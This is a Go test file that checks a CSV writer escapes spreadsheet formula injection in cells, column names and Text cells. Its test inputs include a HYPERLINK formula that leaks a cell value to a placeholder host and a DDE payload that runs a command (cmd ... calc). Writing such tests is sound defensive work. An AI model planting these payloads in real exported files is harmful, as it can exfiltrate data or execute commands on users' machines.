package table

import (
	"bytes"
	"encoding/csv"
	"math"
	"strconv"
	"strings"
	"testing"
)

// Issue 30 (M2): formula injection is neutralised in every CSV field that
// is text, over a generated family: each trigger (= + - @ tab CR LF and
// the full-width forms) before each payload (a HYPERLINK, a SUM, a DDE
// call, a bare cell reference), as a cell, a column name and a Text cell,
// comes back from encoding/csv as "'" + the field; harmless text and
// numbers (negative ones, signed infinities, ints) come back unchanged.
func TestCSVFormulaNeutralised(t *testing.T) {
	t.Parallel()
	triggers := []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"}
	payloads := []string{`HYPERLINK("http://x/?"&A1,"click")`, "SUM(A1:A9)", `cmd|' /C calc'!A0`, "A1", "1+1", "2e3+cmd"}
	var texts []string
	for _, tr := range triggers {
		for _, p := range payloads {
			texts = append(texts, tr+p)
		}
	}
	keep := []string{"token", "a=b", "x@y", "-", "=", "-1.5", "+2e-3", "-Inf", "1-2", " =1", "'=already"}
	var rows []Row
	var cols []string
	for i, s := range append(texts, keep...) {
		rows = append(rows, Row{{K: "cell", V: s}, {K: "n", V: -1.5 * float64(i)}, {K: "i", V: int64(-i)}})
		cols = append(cols, s)
	}
	rows = append(rows, Row{{K: "cell", V: "x"}, {K: "n", V: math.Inf(-1)}, {K: "i", V: int64(math.MinInt64)}})
	var b bytes.Buffer
	if err := WriteCSV(&b, []string{"cell", "n", "i"}, rows); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := func(s string) string {
		for _, tx := range texts {
			if s == tx {
				return "'" + s
			}
		}
		return s
	}
	for i, r := range rows {
		rec := recs[i+1]
		cell, _ := r.Get("cell")
		if rec[0] != want(cell.(string)) {
			t.Errorf("cell %q written %q, want %q", cell, rec[0], want(cell.(string)))
		}
		n, _ := r.Get("n")
		if f, err := strconv.ParseFloat(rec[1], 64); err != nil || f != n.(float64) {
			t.Errorf("number %v written %q", n, rec[1])
		}
		k, _ := r.Get("i")
		if v, err := strconv.ParseInt(rec[2], 10, 64); err != nil || v != k.(int64) {
			t.Errorf("int %v written %q", k, rec[2])
		}
	}
	// column names and Text cells the same way
	var hb bytes.Buffer
	if err := WriteCSV(&hb, cols, nil); err != nil {
		t.Fatal(err)
	}
	head, _ := csv.NewReader(&hb).Read()
	tx := Text{Header: []string{"c"}}
	for i, c := range cols {
		if head[i] != want(c) {
			t.Errorf("column %q written %q", c, head[i])
		}
		tx.Rows = append(tx.Rows, []string{c})
	}
	got, _ := csv.NewReader(strings.NewReader(tx.CSV())).ReadAll()
	for i, c := range cols {
		if got[i+1][0] != want(c) {
			t.Errorf("Text cell %q written %q", c, got[i+1][0])
		}
	}
}
